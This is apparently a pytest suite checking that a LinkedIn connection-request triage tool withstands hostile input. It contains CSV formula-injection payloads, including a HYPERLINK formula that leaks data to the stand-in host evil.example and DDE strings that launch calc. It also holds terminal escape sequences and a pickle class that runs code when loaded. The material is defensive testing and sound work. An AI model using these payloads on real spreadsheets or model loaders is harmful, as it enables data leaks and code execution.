"""Hostile input: text written by strangers, and files that are broken or are not what they say.

Every text field of a request is written by a stranger, some of them scammers (SECURITY.md).
Here: formula injection is neutralised in CSV outputs and kept raw in Parquet; control
characters, NUL, bidi overrides, zero-width characters, emoji and 100k-character cells never
crash nor slow a run; every regex runs in linear time on adversarial text (counted as work,
never timed: tests/work_counting.py); the bad-input
corpus of tests/fixtures/bad/ gets its documented outcome from validate, rules and predict;
and hypothesis feeds arbitrary bytes to the reader and arbitrary rows to features and model.
"""

from __future__ import annotations

import csv
import re
import tempfile
import tomllib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc
import pytest
import tomli_w
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner
from typer.testing import Result as CliResult

from frames import POLICY, load_make_cases, normalised, policy, requests_table
from linkedin_triage.commands.cli import app
from linkedin_triage.errors import TriageError
from linkedin_triage.signals import features, word_lists, word_patterns
from linkedin_triage.sources import contract, parsing
from linkedin_triage.sources.date_order import DateOrder
from linkedin_triage.sources.requests_reader import RequestsReader
from work_counting import assert_linear_growth, backtracking_regexes, python_lines

runner = CliRunner()
BAD = Path(__file__).parent / "fixtures" / "bad"
CASES: list[dict] = tomllib.loads((BAD / "cases.toml").read_text(encoding="utf-8"))["case"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SUMMARY = re.compile(r"(\d+) read = (\d+) scored \+ (\d+) rejected")
DECISIONS = {"accept", "review", "ignore"}


make_cases = load_make_cases()


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The corpus cases that make_cases.py writes (binaries, other encodings)."""
    folder = tmp_path_factory.mktemp("generated")
    make_cases.write_generated(folder)
    return folder


@pytest.fixture(autouse=True)
def wide_console(monkeypatch: pytest.MonkeyPatch) -> None:
    """A wide terminal, so rich never folds or cuts a column name, path or count line.

    (The consoles are created at import; COLUMNS set later is not always seen, e.g. in
    xdist workers.)
    """
    from linkedin_triage import console

    for stream in (console.out, console.err):
        monkeypatch.setattr(stream, "_width", 240)


def invoke(*args: object) -> CliResult:
    return runner.invoke(app, [str(a) for a in args], env={"COLUMNS": "240"})


def flat(output: str) -> str:
    """The output with line breaks and runs of spaces as single spaces (wrapping undone)."""
    return " ".join(output.split())


def read_csv_exactly(path: Path) -> list[dict[str, str]]:
    """Every cell as the exact text written (no type guessing, no NA conversion)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def write_input(table: pd.DataFrame, path: Path) -> Path:
    """A CSV as spreadsheets write it: CRLF rows, so a cell holding a bare CR gets quoted.

    (With "\n" rows, Python's csv writer leaves a bare CR unquoted and the row splits.)
    """
    table.to_csv(path, index=False, lineterminator="\r\n")
    return path


def neutralised(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_START) else text


# -- formula injection ---------------------------------------------------------------------------
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Win a prize")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
# Extra columns are carried through untrimmed, so a leading tab reaches the output (a leading
# CR too: see test_a_bare_carriage_return_keeps_the_csv_row_whole).
EXTRA_VALUES = ("\t=1+2", "-3+4", "=5+6", "@A1", "plain text")


def formula_table() -> pd.DataFrame:
    table = requests_table(len(FORMULAS), seed=31, start="2026-10-01", labelled=False)
    table["request_id"] = [f"{f[0]}id-{i}" for i, f in enumerate(FORMULAS)]
    table["name"] = list(FORMULAS)
    table["headline"] = list(FORMULAS)
    table["source"] = list(EXTRA_VALUES)
    return table


@pytest.mark.parametrize("command", ["predict", "rules"])
def test_formulas_are_neutralised_in_csv_and_kept_raw_in_parquet(
    command: str, model_dir: Path, policy_file: Path, tmp_path: Path
) -> None:
    table = formula_table()
    source = write_input(table, tmp_path / "pending.csv")
    how = ["--model-dir", model_dir] if command == "predict" else ["--policy", policy_file]
    for output in ("out.csv", "out.parquet"):
        result = invoke(command, *how, "--input", source, "--output", tmp_path / output)
        assert result.exit_code == 0, result.output
    written = read_csv_exactly(tmp_path / "out.csv")
    raw = pd.read_parquet(tmp_path / "out.parquet")
    for column in ("request_id", "name", "source"):
        expected = list(table[column])
        assert [row[column] for row in written] == [neutralised(v) for v in expected], column
        assert list(raw[column]) == expected, column  # Parquet keeps the raw value
    assert all(row["request_id"].startswith("'") for row in written)


def test_predict_reasons_start_with_the_tools_own_words(model_dir: Path, tmp_path: Path) -> None:
    """`reasons` is not neutralised: it starts with a sign and one of the tool's phrases."""
    source = write_input(formula_table(), tmp_path / "pending.csv")
    result = invoke(
        "predict", "--model-dir", model_dir, "--input", source, "--output", tmp_path / "o.csv"
    )
    assert result.exit_code == 0, result.output
    reasons = [row["reasons"] for row in read_csv_exactly(tmp_path / "o.csv")]
    assert reasons and all(re.match(r"^[+-] [a-z0-9]", r) for r in reasons), reasons
    assert not any(formula in r[:3] for r in reasons for formula in FORMULAS)


def test_explanations_csv_neutralises_request_ids(model_dir: Path, tmp_path: Path) -> None:
    source = write_input(formula_table(), tmp_path / "pending.csv")
    result = invoke(
        "predict", "--model-dir", model_dir, "--input", source, "--output", tmp_path / "o.csv",
        "--explanations", tmp_path / "why.csv",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    ids = {row["request_id"] for row in read_csv_exactly(tmp_path / "why.csv")}
    assert ids == {neutralised(i) for i in formula_table()["request_id"]}


@pytest.mark.parametrize("command", ["predict", "rules"])
def test_rejects_file_neutralises_the_input_text_it_quotes(
    command: str, model_dir: Path, policy_file: Path, tmp_path: Path
) -> None:
    # `@mutuals` is an accepted header (aliases match letters and digits only).
    source = tmp_path / "pending.csv"
    source.write_text(
        "request_id,name,received_at,@mutuals\n"
        "=evil,Ann Example,2026-01-01,=1+2\n"
        "ok-1,Bo Example,2026-01-02,4\n",
        encoding="utf-8",
    )
    how = ["--model-dir", model_dir] if command == "predict" else ["--policy", policy_file]
    result = invoke(command, *how, "--input", source, "--output", tmp_path / "o.parquet")
    assert result.exit_code == 0, result.output
    [reject] = read_csv_exactly(tmp_path / "o.rejects.csv")
    assert (reject["row"], reject["request_id"], reject["column"], reject["value"]) == (
        "1",
        "'=evil",
        "'@mutuals",
        "'=1+2",
    )


def test_training_rejects_file_neutralises_the_header_it_quotes(
    policy_file: Path, tmp_path: Path
) -> None:
    history = requests_table(40, seed=34).rename(columns={"mutual_connections": "@mutuals"})
    history.loc[2, "@mutuals"] = "=1+2"
    source = write_input(history, tmp_path / "history.csv")
    result = invoke(
        "train", "--policy", policy_file, "--history", source,
        "--model-dir", tmp_path / "m", "--no-track",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    [reject] = read_csv_exactly(tmp_path / "m.rejects.csv")
    assert (reject["row"], reject["value"]) == ("3", "'=1+2")
    assert reject["column"] == "'@mutuals"


# -- control characters, bidi, zero-width, emoji, huge cells ----------------------------------
LONG_NOTE = ("Hi dear, earn $5000 weekly with crypto, whatsapp +39 347 123 4567 " * 1600)[:100_000]
HOSTILE_NAMES = {
    "nul": "Ann\x00a Example",
    "escape codes": "\x1b[2J\x1b]0;pwned\x07Eve Example",
    "bell and backspace": "Bob\x07\x08 Example",
    "bidi override": "Carl \u202eelpmaxE\u202c",
    "isolates": "\u2066Dora\u2069 Example",
    "zero width": "Ed\u200b\u200c\u200d Ex\ufeffample",
    "emoji": "Flo 👩‍💻 Example 🇮🇹",
    "combining": "Ga\u0301\u0301\u0301bo Example",
    "line breaks": "Hal\nExample\r\nJunior",
    "huge": "Ivo " + "x" * 100_000,
}


def hostile_table() -> pd.DataFrame:
    n = len(HOSTILE_NAMES)
    table = requests_table(n, seed=32, start="2026-10-01", labelled=False)
    table["name"] = list(HOSTILE_NAMES.values())
    hostile = list(HOSTILE_NAMES.values())
    table["headline"] = hostile[::-1]
    table["message"] = [LONG_NOTE if i % 2 else hostile[i] for i in range(n)]
    table["title"] = hostile
    table["about"] = [LONG_NOTE] * n
    table["company"] = hostile[1:] + hostile[:1]
    return table


def test_hostile_text_is_scored_row_for_row_and_kept_exactly(
    model_dir: Path, tmp_path: Path
) -> None:
    table = hostile_table()
    source = write_input(table, tmp_path / "pending.csv")
    result = invoke(
        "predict", "--model-dir", model_dir, "--input", source, "--output", tmp_path / "o.parquet"
    )
    assert result.exit_code == 0, result.output
    n = len(table)
    assert SUMMARY.search(flat(result.output)).groups() == (str(n), str(n), "0")
    predictions = pd.read_parquet(tmp_path / "o.parquet")
    assert list(predictions["name"]) == list(table["name"])  # byte for byte, NUL included
    assert predictions["p_accept"].between(0, 1).all()
    assert set(predictions["decision"]) <= DECISIONS


def test_hostile_names_round_trip_through_csv(policy_file: Path, tmp_path: Path) -> None:
    table = hostile_table()
    source = write_input(table, tmp_path / "pending.csv")
    result = invoke(
        "rules", "--policy", policy_file, "--input", source, "--output", tmp_path / "o.csv"
    )
    assert result.exit_code == 0, result.output
    assert [row["name"] for row in read_csv_exactly(tmp_path / "o.csv")] == list(table["name"])


@pytest.mark.parametrize("command", ["rules", "predict"])
def test_a_bare_carriage_return_keeps_the_csv_row_whole(
    command: str, model_dir: Path, policy_file: Path, tmp_path: Path
) -> None:
    table = requests_table(3, seed=33, start="2026-10-01", labelled=False)
    table["name"] = ["Kim\rExample", "Lu Example", "Mo\rEx\rample"]
    table["source"] = ["\r=3+4", "fine", "x\ry"]  # an extra column, carried through raw
    source = write_input(table, tmp_path / "pending.csv")
    how = ["--model-dir", model_dir] if command == "predict" else ["--policy", policy_file]
    result = invoke(command, *how, "--input", source, "--output", tmp_path / "o.csv")
    assert result.exit_code == 0, result.output
    rows = read_csv_exactly(tmp_path / "o.csv")
    assert [row["name"] for row in rows] == list(table["name"])
    assert [row["source"] for row in rows] == ["'\r=3+4", "fine", "x\ry"]


def test_validate_shows_control_characters_as_code_points(tmp_path: Path) -> None:
    table = hostile_table().head(6)
    table.loc[0, "received_at"] = "\x1b[31mnot a date"
    result = invoke("validate", write_input(table, tmp_path / "pending.csv"))
    assert result.exit_code == 2, result.output
    assert "\\u001b[31mnot a date" in result.output
    assert "\x1b" not in result.output and "\x00" not in result.output


def test_error_messages_never_send_control_characters_to_the_terminal(tmp_path: Path) -> None:
    source = tmp_path / "pending.csv"
    source.write_bytes(b"request_id,\x1b[2J\x1b]0;pwned\x07,\xe2\x80\xaecompany\nr1,x,y\n")
    (tmp_path / "p.toml").write_text(tomli_w.dumps(POLICY), encoding="utf-8")
    result = invoke(
        "rules", "--policy", tmp_path / "p.toml", "--input", source, "--output", tmp_path / "o.csv"
    )
    assert result.exit_code == 2 and "missing required column" in result.output
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", result.output)


def test_explain_never_sends_control_characters_to_the_terminal(
    model_dir: Path, tmp_path: Path
) -> None:
    table = hostile_table().head(3)
    table["request_id"] = ["x1", "x2", "x3"]
    source = write_input(table, tmp_path / "pending.csv")
    result = invoke("explain", "--model-dir", model_dir, "--input", source, "--id", "x2")
    assert result.exit_code == 0, result.output
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", result.output)


# -- speed on huge cells and linear-time regexes ----------------------------------------------
FULL_ROW = {
    "request_id": "r1",
    "name": "Marco Rossi",
    "received_at": "2026-03-01T10:00:00Z",
    "headline": "Head of IT at Acme",
    "title": "Head of IT",
    "company": "Acme S.p.A.",
    "industry": "Banking",
    "location": "Milan, Lombardy, Italy",
    "mutual_connections": "12",
    "connections": "640",
    "has_photo": "true",
    "joined_on": "2015-04-01",
}


def frame_with_text(tmp_path: Path, text: str, columns: tuple[str, ...]) -> pd.DataFrame:
    """One normalised row with `text` in each of `columns` (through the real reader)."""
    row = {**FULL_ROW, **dict.fromkeys(columns, text)}
    return normalised(pd.DataFrame([row]), tmp_path, "one.csv")


def test_a_100k_character_note_costs_features_no_more_python_work_than_a_short_one(
    tmp_path: Path,
) -> None:
    """A note and a headline of 100k characters each: every character is left to RE2 and
    Arrow's kernels, so the Python that runs is the same as for a short note."""
    short = frame_with_text(tmp_path, "Hello Giulia, we met in Milan", ("message", "headline"))
    long = frame_with_text(tmp_path, LONG_NOTE, ("message", "headline"))
    features.build_features(short, policy())  # imports and caches out of the count
    lines = {
        length: python_lines(lambda f=frame: features.build_features(f, policy()))
        for length, frame in (("short", short), ("long", long))
    }
    assert lines["long"] <= lines["short"] * 1.01, lines
    assert backtracking_regexes(lambda: features.build_features(long, policy())) == []
    result = features.build_features(long, policy())
    assert result.loc[0, "suspicious_text"] == 1.0  # and the scam is still seen


# Repeated units that make backtracking engines explode on some pattern shapes; the trailing
# accent makes the text non-ASCII, which is where pandas would fall back to Python's `re`.
ADVERSARIAL_UNITS = ("1 ", "a.", "+39 ", "a-", "one ", "a@", "http://a", "ab ")
# A short text, then n and 4n characters: linear work grows 4x from n to 4n, quadratic 16x.
SIZES = (1_000, 50_000, 200_000)


def adversarial(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size] + "é"


def vocab_patterns() -> dict[str, str]:
    """Every text pattern of word_lists.py, plus patterns built from a policy's keywords."""
    patterns = {
        name: value
        for name, value in vars(word_lists).items()
        if name.isupper() and isinstance(value, str) and not name.startswith("_")
    }
    patterns["keywords"] = word_patterns.keyword_pattern(["CTO", "Head of IT", "Reply", "Giulia"])
    assert len(patterns) >= 10  # the word lists are there
    return patterns


@pytest.mark.parametrize("unit", ADVERSARIAL_UNITS)
def test_every_vocab_pattern_runs_in_linear_time(unit: str) -> None:
    """RE2 matches in time linear in the text by construction, and refuses every pattern it
    could not (backreferences, lookaround): a pattern RE2 runs is a linear one."""
    array = pc.utf8_normalize(pa.array([adversarial(unit, SIZES[-1])]), form="NFD")
    for name, pattern in vocab_patterns().items():
        try:
            pc.match_substring_regex(array, pattern, ignore_case=True)
        except pa.ArrowInvalid as error:
            pytest.fail(f"{name}: RE2 cannot run it ({error}); Python's re would backtrack")


TEXT_COLUMNS = ("message", "headline", "title", "about", "company", "location", "name")


@pytest.mark.parametrize("unit", ADVERSARIAL_UNITS)
def test_features_run_in_linear_time_on_adversarial_text(unit: str, tmp_path: Path) -> None:
    """The whole signal extraction, whatever engine it routes each regex to."""
    features.build_features(frame_with_text(tmp_path, "warm up", ("message",)), policy())
    frames = {
        size: frame_with_text(tmp_path, adversarial(unit, size), TEXT_COLUMNS) for size in SIZES
    }
    largest = frames[SIZES[-1]]
    assert backtracking_regexes(lambda: features.build_features(largest, policy())) == []

    def lines(size: int) -> int:
        return python_lines(lambda: features.build_features(frames[size], policy()))

    assert_linear_growth(lines, SIZES, f"features on {unit!r}")


PARSERS: dict[str, Callable[[pd.Series], object]] = {
    "count": parsing.parse_count,
    "datetime": parsing.parse_datetime,
    "datetime, day-first": lambda cell: parsing.parse_datetime(cell, DateOrder.DAY_FIRST),
    "url": parsing.parse_url,
    "bool": parsing.parse_bool,
    "country": parsing.parse_country,
    "list": parsing.parse_list,
    "decision": parsing.parse_decision,
}
PARSER_UNITS = ("1,000", "1 ", "9", "1.", "%2", "a, ", "https://www.linkedin.com/in/", "1/2/")


@pytest.mark.parametrize("unit", PARSER_UNITS)
def test_cell_parsers_run_in_linear_time(unit: str) -> None:
    cells = {size: pd.Series([adversarial(unit, size)], dtype="str") for size in SIZES}

    def parse_all(cell: pd.Series) -> None:
        for parse in PARSERS.values():
            parse(cell)
        contract.compact(cell.iloc[0])

    assert backtracking_regexes(lambda: parse_all(cells[SIZES[-1]])) == []

    def lines(size: int) -> int:
        return python_lines(lambda: parse_all(cells[size]))

    assert_linear_growth(lines, SIZES, f"parsers on {unit!r}")


# -- hostile model files (what tests/test_bundle.py does not already cover) ------------------
class _RunsCodeWhenLoaded:
    """Unpickling this creates a folder: proof that loading ran code from the file."""

    def __init__(self, target: Path):
        self.target = target

    def __reduce__(self):
        import os

        return (os.mkdir, (str(self.target),))


def copy_model(model_dir: Path, tmp_path: Path) -> Path:
    import shutil

    return Path(shutil.copytree(model_dir, tmp_path / "m"))


def test_a_model_file_that_would_run_code_is_refused_before_loading(
    model_dir: Path, tmp_path: Path
) -> None:
    import joblib

    copy = copy_model(model_dir, tmp_path)
    ran = tmp_path / "payload-ran"
    joblib.dump(_RunsCodeWhenLoaded(ran), copy / "model.joblib")
    source = write_input(formula_table(), tmp_path / "pending.csv")
    for command in (
        ["predict", "--model-dir", copy, "--input", source, "--output", tmp_path / "o.csv"],
        ["explain", "--model-dir", copy, "--input", source, "--id", "=id-0"],
        ["evaluate", "--model-dir", copy, "--data", source, "--no-track"],
    ):
        result = invoke(*command)
        assert result.exit_code == 2, result.output
        assert "model.joblib" in result.output and "retrain" in result.output
    assert not ran.exists()  # refused on the manifest's hash, never unpickled
    assert not (tmp_path / "o.csv").exists()
    joblib.load(copy / "model.joblib")  # the control: loading it does run the code
    assert ran.is_dir()


@pytest.mark.parametrize("version", [0, None, "1"], ids=["older", "absent", "as-text"])
def test_a_model_folder_of_another_format_is_refused(
    version: object, model_dir: Path, tmp_path: Path
) -> None:
    import json

    copy = copy_model(model_dir, tmp_path)
    manifest = json.loads((copy / "manifest.json").read_text())
    manifest["format_version"] = version
    (copy / "manifest.json").write_text(json.dumps(manifest))
    source = write_input(formula_table(), tmp_path / "pending.csv")
    result = invoke(
        "predict", "--model-dir", copy, "--input", source, "--output", tmp_path / "o.csv"
    )
    assert result.exit_code == 2, result.output
    assert "model format" in result.output and "retrain" in result.output


# -- the bad-input corpus ----------------------------------------------------------------------
def case_params() -> list:
    params = []
    for case in CASES:
        marks = [pytest.mark.xfail(strict=True, reason=case["xfail"])] if "xfail" in case else []
        for command in ("validate", "rules", "predict"):
            params.append(pytest.param(case, command, marks=marks, id=f"{case['file']}-{command}"))
    return params


def case_path(case: dict, generated: Path) -> Path:
    if case.get("generated"):
        return generated / case["file"]
    path = BAD / case["file"]
    assert case.get("missing") or path.exists(), f"{path} is listed in cases.toml but missing"
    return path


def test_the_corpus_covers_every_bad_input_rule_and_every_file() -> None:
    listed = {case["file"] for case in CASES}
    on_disk = {p.name for p in BAD.iterdir() if p.suffix in {".csv", ".jsonl", ".parquet"}}
    assert on_disk <= listed, on_disk - listed  # no fixture without an expected outcome
    assert set(make_cases.GENERATORS) <= listed
    outcomes = {case["outcome"] for case in CASES}
    assert outcomes == {"error", "rejects", "all_rejected", "clean"}
    columns = {column for case in CASES for _, column in case.get("rejects", [])}
    assert {"mutual_connections", "connections", "has_photo", "received_at", "joined_on"} <= columns
    assert {"country", "decision", "request_id", "name", "*"} <= columns


def run_case(command: str, path: Path, out: Path, model_dir: Path, policy_file: Path) -> CliResult:
    if command == "validate":
        return invoke("validate", path)
    if command == "rules":
        return invoke("rules", "--policy", policy_file, "--input", path, "--output", out)
    return invoke("predict", "--model-dir", model_dir, "--input", path, "--output", out)


@pytest.mark.parametrize(("case", "command"), case_params())
def test_bad_input_case_gets_its_documented_outcome(
    case: dict, command: str, generated: Path, model_dir: Path, policy_file: Path, tmp_path: Path
) -> None:
    path = case_path(case, generated)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / "predictions.csv"
    result = run_case(command, path, out, model_dir, policy_file)
    outcome = case["outcome"]
    if outcome == "error":
        assert result.exit_code == 2, result.output
        for text in case["mentions"]:
            assert text in flat(result.output), (text, result.output)
        assert list(out_dir.iterdir()) == []  # no output, no rejects file, no temporaries
        return
    if command == "validate":
        check_validate(case, result)
    else:
        check_batch(case, result, out, out_dir)


def check_validate(case: dict, result: CliResult) -> None:
    bad_rows = reject_rows(case)
    expected = f"{case['rows']} rows read, {len(bad_rows)} with problems"
    assert expected in flat(result.output), result.output
    if case["outcome"] == "clean":
        assert result.exit_code == 0, result.output
    else:
        assert result.exit_code == 2, result.output
        for _, column in case.get("rejects", []):
            assert column in result.output, (column, result.output)
    if "notice" in case:
        assert case["notice"] in flat(result.output), result.output


def reject_rows(case: dict) -> set[int]:
    if "rejects" in case:
        return {row for row, _ in case["rejects"]}
    return set(range(1, case["rows"] + 1)) if case["outcome"] == "all_rejected" else set()


def check_batch(case: dict, result: CliResult, out: Path, out_dir: Path) -> None:
    """Exit code, the N = M + K line, the rows kept in order, every rejected cell; no leftovers."""
    n, bad_rows = case["rows"], reject_rows(case)
    rejects = out_dir / "predictions.rejects.csv"
    # written whenever a row was rejected (even every row); never empty
    assert rejects.exists() == bool(bad_rows), result.output
    written = read_csv_exactly(rejects) if bad_rows else []
    assert {int(r["row"]) for r in written} == bad_rows
    if "rejects" in case:
        assert sorted((int(r["row"]), r["column"]) for r in written) == sorted(
            (row, column) for row, column in case["rejects"]
        )
    assert all(r["reason"] for r in written)
    if case["outcome"] == "all_rejected":
        assert result.exit_code == 2, result.output
        assert f"all {n} rows were rejected" in flat(result.output)
        assert not out.exists()
        assert sorted(p.name for p in out_dir.iterdir()) == [rejects.name]
        return
    assert result.exit_code == 0, result.output
    assert SUMMARY.search(flat(result.output)).groups() == (
        str(n),
        str(len(case["kept"])),
        str(len(bad_rows)),
    )
    assert [row["request_id"] for row in read_csv_exactly(out)] == case["kept"]
    assert len(case["kept"]) + len(bad_rows) == n  # nothing dropped silently
    expected_files = [out.name, rejects.name] if bad_rows else [out.name]
    assert sorted(p.name for p in out_dir.iterdir()) == sorted(expected_files)
    if "notice" in case:
        assert case["notice"] in flat(result.output), result.output


# -- fuzzing -------------------------------------------------------------------------------------
HEADER_LINE = b"request_id,name,received_at,message,mutual_connections,has_photo,country\n"


def check_read(path: Path) -> None:
    """A clean TriageError naming the file, or chunks where every row is kept or rejected."""
    try:
        reader = RequestsReader(path, chunk_rows=3)
        chunks = list(reader.chunks())
    except TriageError as error:
        assert path.name in str(error)
        return
    kept = [int(r) for c in chunks for r in c.frame["row"]]
    rejected = {r.row for c in chunks for r in c.rejects}
    assert not set(kept) & rejected
    assert set(kept) | rejected == set(range(1, reader.n_read + 1))
    for chunk in chunks:
        assert list(chunk.frame.columns) == list(contract.FRAME_COLUMNS)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    body=st.binary(max_size=1500),
    with_header=st.booleans(),
    suffix=st.sampled_from([".csv", ".jsonl", ".parquet", ".txt"]),
)
def test_any_bytes_are_read_or_refused_cleanly(body: bytes, with_header: bool, suffix: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"requests{suffix}"
        path.write_bytes((HEADER_LINE if with_header else b"") + body)
        check_read(path)


# Every character but lone surrogates (which no file can hold): NUL, controls, bidi, emoji.
ANY_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=60)
TEXT_CELLS = ("name", "message", "headline", "title", "company", "about", "location")


@st.composite
def hostile_rows(draw: st.DrawFn) -> list[dict[str, str]]:
    rows = []
    for i in range(draw(st.integers(1, 4))):
        row = {**FULL_ROW, "request_id": f"f{i}"}
        row.update({column: draw(ANY_TEXT) for column in TEXT_CELLS})
        row["mutual_connections"] = draw(st.one_of(st.integers(0, 10**9).map(str), ANY_TEXT))
        rows.append(row)
    return rows


def read_rows(rows: list[dict[str, str]]):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "rows.csv"
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
        reader = RequestsReader(path)
        frames = [chunk.frame for chunk in reader.chunks()]
    return reader, pd.concat(frames, ignore_index=True)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=hostile_rows())
def test_hostile_rows_give_sane_features(rows: list[dict[str, str]]) -> None:
    reader, frame = read_rows(rows)
    assert reader.n_read == len(rows)
    result = features.build_features(frame, policy())
    assert len(result) == len(frame)
    assert not np.isinf(result.to_numpy(float)).any()
    assert result["fake_score"].between(0, 1).all()


@pytest.fixture(scope="module")
def model(model_dir: Path) -> object:
    from linkedin_triage.storage.model_loading import load_bundle

    return load_bundle(model_dir).model


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=hostile_rows())
def test_any_row_through_a_trained_model_gives_a_valid_prediction(
    rows: list[dict[str, str]], model: object
) -> None:
    from linkedin_triage.explaining.scoring import predict_frame

    _, frame = read_rows(rows)
    assume(len(frame) > 0)  # a file whose every row is rejected is never scored
    predictions = predict_frame(model, frame)
    assert list(predictions["request_id"]) == list(frame["request_id"])
    p = predictions["p_accept"].to_numpy(float)
    assert np.isfinite(p).all() and ((p >= 0) & (p <= 1)).all()
    assert set(predictions["decision"]) <= DECISIONS
    assert set(predictions["rules_decision"]) <= DECISIONS
    assert predictions["fake_score"].between(0, 1).all()
